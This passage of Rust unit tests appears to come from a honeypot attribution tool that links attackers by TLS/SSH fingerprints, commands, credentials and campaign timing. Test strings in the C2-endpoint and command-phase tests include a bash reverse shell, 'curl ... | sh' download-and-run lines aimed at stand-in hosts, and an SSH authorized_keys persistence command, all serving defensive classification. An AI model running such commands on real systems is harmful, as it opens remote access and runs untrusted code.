        ]));
        assert_eq!(
            (s["ja3_hashes"].clone(), s["hassh_hashes"].clone()),
            (Some(vec!["ja3-abc".into()]), Some(vec!["hassh-def".into()]))
        );
        let s = fingerprint_summary(&json!([
            fp("tcpfp", "hash", json!("x")),
            fp("ja4l", "rtt_ms", json!("1")),
            fp("http_quirks", "order_hash", json!("y"))
        ]));
        assert!(s.values().all(Option::is_none));
        assert_eq!(
            fingerprint_summary(
                &json!([{"bounty_type": "fingerprint", "payload": {"fingerprint_type": "tls_certificate"}}])
            )["tls_cert_sha256"],
            None
        );
        assert!(fingerprint_summary(&json!("not json"))
            .values()
            .all(Option::is_none));
        assert!(fingerprint_summary(&Value::Null)
            .values()
            .all(Option::is_none));
        let cd = "cd".repeat(32);
        let as_string = json!([{"bounty_type": "fingerprint", "payload": json!({"fingerprint_type": "tls_certificate", "cert_sha256": cd}).to_string()}]);
        assert_eq!(
            fingerprint_summary(&as_string)["tls_cert_sha256"],
            Some(vec![cd])
        );
        assert_eq!(
            fingerprint_summary(&json!([fp("tls_certificate", "cert_sha256", json!(12345))]))
                ["tls_cert_sha256"],
            None
        );
        let ja3s: Vec<Value> = ["ja3-shared", "ja3-shared", "ja3-second", "ja3-third"]
            .iter()
            .map(|v| fp("ja3", "ja3", json!(v)))
            .collect();
        assert_eq!(
            fingerprint_summary(&json!(ja3s))["ja3_hashes"],
            Some(vec![
                "ja3-second".into(),
                "ja3-shared".into(),
                "ja3-third".into()
            ])
        );
        let s = fingerprint_summary(&json!([
            fp("ja4h", "ja4h", json!("GE11nn0000_02_abc_000")),
            fp("ja4h", "ja4h", json!("GE11nn0000_02_def_000")),
            fp("ja4_quic", "ja4_quic", json!("q13d0310h2_002f_0403_h3")),
            json!({"payload": {"fingerprint_type": "ja4h"}})
        ]));
        assert_eq!(s["ja4h_hashes"].as_ref().map(Vec::len), Some(2));
        assert_eq!(
            s["ja4_quic_hashes"],
            Some(vec!["q13d0310h2_002f_0403_h3".into()])
        );
        // a bare payload list (what decnet.bounties holds) works the same
        assert_eq!(
            fingerprint_summary(&json!([{"fingerprint_type": "ja3", "ja3": "j", "ja4": "t13"}]))
                ["ja4_hashes"],
            Some(vec!["t13".into()])
        );
    }

    // cases 7.5
    #[test]
    fn identity_tiers() {
        let with = |fps: &[&str], pl: &[&str], c2: &[&str]| Observation {
            payload_hashes: set(pl),
            c2_endpoints: set(c2),
            ..obs(fps)
        };
        assert_eq!(high_tier(&obs(&["ja3:x"]), &obs(&["ja3:x"])), 1.0);
        assert_eq!(high_tier(&obs(&["hassh:y"]), &obs(&["hassh:y"])), 1.0);
        assert_eq!(
            high_tier(
                &with(&[], &["pl-1", "pl-2"], &[]),
                &with(&[], &["pl-2", "pl-3"], &[])
            ),
            1.0
        );
        assert_eq!(
            high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])),
            1.0
        );
        assert_eq!(
            high_tier(
                &with(&["ja3:a"], &["p1"], &["c1"]),
                &with(&["ja3:b"], &["p2"], &["c3"])
            ),
            0.0
        );
        assert_eq!(high_tier(&obs(&[]), &obs(&[])), 0.0);
        // veto
        assert_eq!(
            high_tier(
                &with(&["ja3:a", "hassh:a"], &[], &["c2"]),
                &with(&["ja3:b", "hassh:b"], &[], &["c2"])
            ),
            0.0
        );
        assert_eq!(
            high_tier(
                &with(&["ja3:a", "hassh:a"], &["p"], &[]),
                &with(&["ja3:b", "hassh:b"], &["p"], &[])
            ),
            0.0
        );
        assert_eq!(
            high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])),
            1.0
        );
        assert_eq!(
            high_tier(&with(&["ja3:a"], &[], &["c2"]), &with(&[], &[], &["c2"])),
            1.0
        );
        assert_eq!(
            high_tier(
                &with(&["ja3:a", "hassh:a"], &[], &["c2"]),
                &with(&["ja3:a", "hassh:b"], &[], &["c2"])
            ),
            1.0
        );
        assert_eq!(
            high_tier(
                &with(&["ja3:a"], &[], &["c2"]),
                &with(&["ja3:b"], &[], &["c2"])
            ),
            0.0
        );
        assert_eq!(high_tier(&with(&[], &[], &[]), &with(&[], &[], &[])), 0.0);
        // medium
        let cmds = |m: &[(&str, &[&str])]| Observation {
            commands_by_phase: m.iter().map(|(p, c)| (p.to_string(), set(c))).collect(),
            ..Default::default()
        };
        let d = cmds(&[("discovery", &["ls", "id", "uname -a"])]);
        assert_eq!(medium_tier(&d, &d), 1.0);
        assert_eq!(
            medium_tier(
                &cmds(&[("discovery", &["ls", "id", "uname -a", "whoami"])]),
                &cmds(&[("discovery", &["ls", "id"])])
            ),
            0.5
        );
        assert_eq!(
            medium_tier(
                &cmds(&[("discovery", &["ls"]), ("exploitation", &["x"])]),
                &cmds(&[("discovery", &["id"]), ("exploitation", &["x"])])
            ),
            1.0
        );
        assert_eq!(
            medium_tier(
                &cmds(&[("discovery", &["ls"])]),
                &cmds(&[("exploitation", &["ls"])])
            ),
            0.0
        );
        assert_eq!(
            medium_tier(
                &cmds(&[("discovery", &["ls"])]),
                &cmds(&[("discovery", &["id"])])
            ),
            0.0
        );
        assert_eq!(medium_tier(&cmds(&[]), &cmds(&[])), 0.0);
        // low
        let creds = |c: &[(&str, &str)]| Observation {
            credentials: c
                .iter()
                .map(|(u, p)| (u.to_string(), p.to_string()))
                .collect(),
            ..Default::default()
        };
        let rt = creds(&[("root", "toor"), ("admin", "admin")]);
        assert_eq!(low_tier(&rt, &rt), 1.0);
        assert!(
            (low_tier(&rt, &creds(&[("root", "toor"), ("user", "user")])) - 1.0 / 3.0).abs()
                < 1e-12
        );
        assert_eq!(low_tier(&rt, &creds(&[])), 0.0);
        // very low
        let asn = |a: Option<i64>| Observation {
            asn: a,
            ..Default::default()
        };
        assert_eq!(very_low_tier(&asn(Some(64500)), &asn(Some(64500))), 1.0);
        assert_eq!(very_low_tier(&asn(Some(64500)), &asn(Some(64501))), 0.0);
        assert_eq!(very_low_tier(&asn(None), &asn(None)), 0.0);
        // combined
        let full = Observation {
            asn: Some(1),
            ..cmds(&[("discovery", &["ls", "id"])])
        };
        let weak = Observation {
            credentials: rt.credentials.clone(),
            ..full.clone()
        };
        assert!(identity_similarity(&obs(&["ja3:x"]), &obs(&["ja3:x"])) >= EDGE_THRESHOLD);
        let m = identity_similarity(&d, &d);
        assert!(m > 0.0 && m < EDGE_THRESHOLD);
        let l = identity_similarity(&rt, &rt);
        assert!(l > 0.0 && l < EDGE_THRESHOLD);
        let a = identity_similarity(&asn(Some(1)), &asn(Some(1)));
        assert!(a > 0.0 && a < EDGE_THRESHOLD);
        assert!(
            identity_similarity(&weak, &weak) < EDGE_THRESHOLD,
            "all weak tiers stay below the threshold"
        );
        let hm = Observation {
            fingerprints: set(&["ja3:x"]),
            ..d.clone()
        };
        assert!(identity_similarity(&hm, &hm) >= EDGE_THRESHOLD);
        assert_eq!(identity_similarity(&obs(&[]), &obs(&[])), 0.0);
        // our addition: a shared rhythm plus shared commands links, a rhythm alone does not
        let kd = |o: &Observation| Observation {
            kd_simhash: Some(0xABCD_1234_ABCD_1234),
            ..o.clone()
        };
        assert!(
            identity_similarity(&kd(&Observation::default()), &kd(&Observation::default()))
                < EDGE_THRESHOLD
        );
        assert!(identity_similarity(&kd(&d), &kd(&d)) >= EDGE_THRESHOLD);
    }

    #[test]
    fn link_reasons_explain_the_similarity() {
        let d = Observation {
            commands_by_phase: [
                ("discovery".to_string(), set(&["ls", "id", "uname -a"])),
                ("exploitation".to_string(), set(&["x"])),
            ]
            .into_iter()
            .collect(),
            credentials: [
                ("root".to_string(), "toor".to_string()),
                ("pi".to_string(), "pi".to_string()),
            ]
            .into_iter()
            .collect(),
            asn: Some(64500),
            kd_simhash: Some(0xABCD_1234_ABCD_1234),
            ..Default::default()
        };
        let e = Observation {
            commands_by_phase: [("discovery".to_string(), set(&["ls", "id"]))]
                .into_iter()
                .collect(),
            credentials: [("root".to_string(), "toor".to_string())]
                .into_iter()
                .collect(),
            asn: Some(64500),
            kd_simhash: Some(0xABCD_1234_ABCD_1237),
            ..Default::default()
        };
        let shared = |fps: &[&str], pl: &[&str], c2: &[&str], base: &Observation| Observation {
            fingerprints: set(fps),
            payload_hashes: set(pl),
            c2_endpoints: set(c2),
            ..base.clone()
        };
        let pairs = [
            (obs(&["hassh:h1", "ja3:j"]), obs(&["hassh:h1", "ja3:k"])),
            (
                shared(&[], &["p1"], &["c2.example:443"], &d),
                shared(&[], &["p1"], &["c2.example:443"], &e),
            ),
            (
                shared(&["ja3:a"], &["p1"], &[], &d),
                shared(&["ja3:b"], &["p1"], &[], &e),
            ), // vetoed
            (d.clone(), e.clone()),
            (obs(&[]), obs(&[])),
        ];
        for (a, b) in &pairs {
            let reasons = link_reasons(a, b);
            let mut by_tier: BTreeMap<&str, f64> = BTreeMap::new();
            for r in &reasons {
                assert!(r.weight > 0.0, "{r:?}");
                let w = by_tier.entry(r.tier).or_insert(r.weight);
                assert_eq!(*w, r.weight, "one weight per tier");
            }
            let total: f64 = by_tier.values().sum();
            assert!(
                (total - identity_similarity(a, b)).abs() < 1e-12,
                "{reasons:?}"
            );
            assert_eq!(link_reasons(b, a).len(), reasons.len(), "symmetric");
        }
        let r = link_reasons(&pairs[0].0, &pairs[0].1);
        assert_eq!(
            r,
            vec![LinkReason {
                tier: "high",
                kind: "hassh".into(),
                value: "h1".into(),
                weight: 1.0
            }]
        );
        let kinds = |i: usize| {
            link_reasons(&pairs[i].0, &pairs[i].1)
                .into_iter()
                .map(|r| r.kind)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            kinds(1),
            [
                "payload_hash",
                "c2",
                "commands:discovery",
                "credentials",
                "asn",
                "kd_simhash"
            ]
        );
        assert_eq!(
            kinds(2),
            ["commands:discovery", "credentials", "asn", "kd_simhash"],
            "the veto leaves the high tier out"
        );
        let cmds = link_reasons(&d, &e)
            .into_iter()
            .find(|r| r.tier == "medium")
            .unwrap();
        assert_eq!(
            (cmds.value.as_str(), cmds.weight),
            ("id\nls", MEDIUM_WEIGHT * 2.0 / 3.0)
        );
        // a value no real signal is as long as is bounded
        let long = "x".repeat(5000);
        let big = link_reasons(
            &obs(&[&format!("ja3:{long}")]),
            &obs(&[&format!("ja3:{long}")]),
        );
        assert!(big[0].value.len() <= 256, "{}", big[0].value.len());
    }

    // cases 7.4
    #[test]
    fn keystroke_edge() {
        const H: u64 = 0xABCD_1234_ABCD_1234;
        assert_eq!(keystroke_weight(Some(H), Some(H)), 1.0);
        assert_eq!(keystroke_weight(Some(H), None), 0.0);
        assert_eq!(keystroke_weight(Some(H), Some(H ^ 0xf)), 0.5);
        assert_eq!(keystroke_weight(Some(H), Some(H ^ 0xff)), 0.0);
        let rhythm = CampaignView {
            kd_simhash: Some(H),
            ..Default::default()
        };
        assert!(campaign_similarity(&rhythm, &rhythm) < CAMPAIGN_EDGE_THRESHOLD);
        let both = CampaignView {
            windows: vec![(0.0, 100.0)],
            ..rhythm.clone()
        };
        assert!(campaign_similarity(&both, &both) >= CAMPAIGN_EDGE_THRESHOLD);
        let window_only = CampaignView {
            windows: vec![(0.0, 100.0)],
            ..Default::default()
        };
        assert!(campaign_similarity(&window_only, &window_only) < CAMPAIGN_EDGE_THRESHOLD);
    }

    fn phases(first: &[(&str, &str, f64)], last: &[(&str, &str, f64)]) -> CampaignView {
        let m = |v: &[(&str, &str, f64)]| {
            v.iter()
                .map(|(d, p, t)| (d.to_string(), (p.to_string(), *t)))
                .collect()
        };
        CampaignView {
            first_phase: m(first),
            last_phase: m(last),
            ..Default::default()
        }
    }

    // cases 7.7
    #[test]
    fn campaign_rules() {
        let a = phases(&[], &[("d1", "command_and_control", 1000.0)]);
        assert_eq!(
            phase_handoff(&a, &phases(&[("d1", "discovery", 1600.0)], &[])),
            1.0
        );
        let p = phases(&[], &[("d1", "persistence", 5000.0)]);
        let l = phases(&[("d1", "lateral_movement", 5060.0)], &[]);
        assert_eq!((phase_handoff(&p, &l), phase_handoff(&l, &p)), (1.0, 1.0));
        assert_eq!(
            phase_handoff(&a, &phases(&[("d2", "discovery", 1600.0)], &[])),
            0.0
        );
        assert_eq!(
            phase_handoff(&a, &phases(&[("d1", "exploitation", 1600.0)], &[])),
            0.0
        );
        assert_eq!(
            phase_handoff(&a, &phases(&[("d1", "discovery", 1000.0 + 90_000.0)], &[])),
            0.0
        );
        assert_eq!(
            phase_handoff(&a, &phases(&[("d1", "discovery", 900.0)], &[])),
            0.0
        );
        assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(0.0, 100.0)]), 1.0);
        assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(50.0, 150.0)]), 0.5);
        assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(200.0, 300.0)]), 0.0);
        assert_eq!(temporal_overlap(&[], &[(0.0, 1.0)]), 0.0);
        assert_eq!(
            temporal_overlap(&[(1000.0, 1100.0)], &[(1050.0, 1150.0)]),
            0.5
        );
        assert!(
            campaign_similarity(&a, &phases(&[("d1", "discovery", 1600.0)], &[]))
                >= CAMPAIGN_EDGE_THRESHOLD
        );
        let infra = CampaignView {
            infrastructure: set(&["c2.example:443"]),
            ..Default::default()
        };
        assert!(campaign_similarity(&infra, &infra) >= CAMPAIGN_EDGE_THRESHOLD);
        let cohort = CampaignView {
            cohort: set(&["asn:1", "tool:nmap", "decky:d1"]),
            ..Default::default()
        };
        assert!(campaign_similarity(&cohort, &cohort) < CAMPAIGN_EDGE_THRESHOLD);
    }

    #[test]
    fn candidate_pairs_within_groups_touching_the_scope() {
        let pairs = |members: &[(i64, &'static str, bool)]| {
            let mut out = Vec::new();
            for_each_candidate_pair(members.iter().copied(), |x, y| out.push((x, y)));
            out
        };
        let found = pairs(&[
            (1, "a", true),
            (1, "b", false),
            (1, "c", false),
            (2, "b", false),
            (2, "a", true), // a-b again through another value: one pair
            (3, "c", false),
            (3, "d", false), // no member in scope: no pair
            (4, "e", true),  // alone: no pair
        ]);
        assert_eq!(found, [("a", "b"), ("a", "c")]);
        assert_eq!(pairs(&[(1, "x", true), (1, "x", true)]), []);
    }

    #[test]
    fn typed_parts() {
        assert_eq!(
            simhash_from_bytes(&[0xAB, 0xCD, 0x12, 0x34, 0xAB, 0xCD, 0x12, 0x34]),
            Some(0xABCD_1234_ABCD_1234)
        );
        assert_eq!(simhash_from_bytes(&[1, 2, 3]), None);
        let grouped = commands_by_phase([
            ("discovery", "ls"),
            ("other", "x"),
            ("discovery", "id"),
            ("discovery", "ls"),
        ]);
        assert_eq!(grouped.len(), 2);
        assert_eq!(
            grouped["discovery"].iter().collect::<Vec<_>>(),
            ["id", "ls"]
        );
    }

    #[test]
    fn from_json() {
        let o = Observation::from_json(
            &json!({"fingerprints": ["hassh:h"], "commands": {"discovery": ["ls"]},
            "credentials": [["root", "x"], ["bad"]], "asn": 64500, "kd": "abcd1234abcd1234"}),
        );
        assert_eq!(
            (
                o.fingerprints.len(),
                o.commands_by_phase["discovery"].len(),
                o.credentials.len(),
                o.asn
            ),
            (1, 1, 1, Some(64500))
        );
        assert_eq!(o.kd_simhash, Some(0xABCD_1234_ABCD_1234));
        assert_eq!(
            Observation::from_json(&json!({"kd": "zz"})).kd_simhash,
            None
        );
        let c = CampaignView::from_json(
            &json!({"first": {"d1": ["discovery", 1600.0]}, "windows": [[0, 100]], "cohort": ["asn:1"]}),
        );
        assert_eq!(
            (
                c.first_phase["d1"].0.as_str(),
                c.windows.clone(),
                c.cohort.len()
            ),
            ("discovery", vec![(0.0, 100.0)], 1)
        );
    }

    #[test]
    fn c2_endpoints_of_commands() {
        assert_eq!(
            c2_endpoints("wget http://203.0.113.9/x.sh -O /tmp/x.sh"),
            vec!["203.0.113.9:80"]
        );
        assert_eq!(
            c2_endpoints("curl -s HTTPS://Evil.Example:8443/a | sh; curl https://evil.example/b"),
            vec!["evil.example:443", "evil.example:8443"]
        );
        assert_eq!(
            c2_endpoints("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
            vec!["198.51.100.7:4444"]
        );
        assert_eq!(c2_endpoints("tftp://10.0.0.1/boot"), vec!["10.0.0.1:69"]);
        assert!(c2_endpoints("uname -a").is_empty());
    }

    #[test]
    fn command_phases() {
        assert_eq!(command_phase("uname -a"), Some("discovery"));
        assert_eq!(command_phase("cat /etc/passwd"), Some("discovery"));
        assert_eq!(
            command_phase("echo key >> ~/.ssh/authorized_keys"),
            Some("persistence")
        );
        assert_eq!(
            command_phase("wget http://x/y.sh -O- | sh"),
            Some("command_and_control")
        );
        assert_eq!(
            command_phase("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
            Some("command_and_control")
        );
        assert_eq!(command_phase("ssh root@10.0.0.7"), Some("lateral_movement"));
        assert_eq!(command_phase("echo hello"), None);
    }

    #[test]
    fn commands_name_their_techniques() {
        let ids =
            |c: &str| -> Vec<&str> { command_techniques(c).iter().map(|r| r.technique).collect() };
        assert_eq!(ids("uname -a; whoami"), ["T1082", "T1033"]);
        assert_eq!(ids("wget http://x/y.sh -O- | sh"), ["T1059.004", "T1105"]);
        assert_eq!(ids("echo key >> ~/.ssh/authorized_keys"), ["T1098.004"]);
        assert!(ids("echo hello").is_empty());
        // the phase is the first matching rule's
        assert_eq!(command_phase("uname -a; crontab -l"), Some("persistence"));
        for r in COMMAND_RULES {
            assert!(r.technique.starts_with('T') && !r.technique_name.is_empty());
        }
    }

    #[test]
    fn previous_groups_survive_a_full_pass() {
        // I1 had a, b, c; now a, b are component x and c is component y: x keeps I1,
        // y gets a new id. I2 (d) and I3 (e, f) now form component z: z keeps I3, I2 merges.
        let r = keep_previous_groups([
            ("x", "I1"),
            ("x", "I1"),
            ("y", "I1"),
            ("z", "I2"),
            ("z", "I3"),
            ("z", "I3"),
        ]);
        assert_eq!(
            r,
            vec![("I1", "x", true), ("I2", "z", false), ("I3", "z", true)]
        );
        // ties: the smallest component claims, the smallest id is kept
        assert_eq!(
            keep_previous_groups([("b", "I1"), ("a", "I1")]),
            vec![("I1", "a", true)]
        );
        assert_eq!(
            keep_previous_groups([("a", "I2"), ("a", "I1")]),
            vec![("I1", "a", true), ("I2", "a", false)]
        );
    }

    // cases 7.6
    #[test]
    fn components() {
        let c = connected_components([("a", "b"), ("c", "c")]);
        assert_eq!((c["a"], c["b"], c["c"]), ("a", "a", "c"));
        let c = connected_components([("b", "c"), ("a", "c")]);
        assert!(
            ["a", "b", "c"].iter().all(|l| c[l] == "a"),
            "transitive, smallest label"
        );
        let c2 = connected_components([("a", "c"), ("b", "c")]);
        assert_eq!(c, c2, "order-independent");
        assert!(connected_components(std::iter::empty()).is_empty());
    }
}
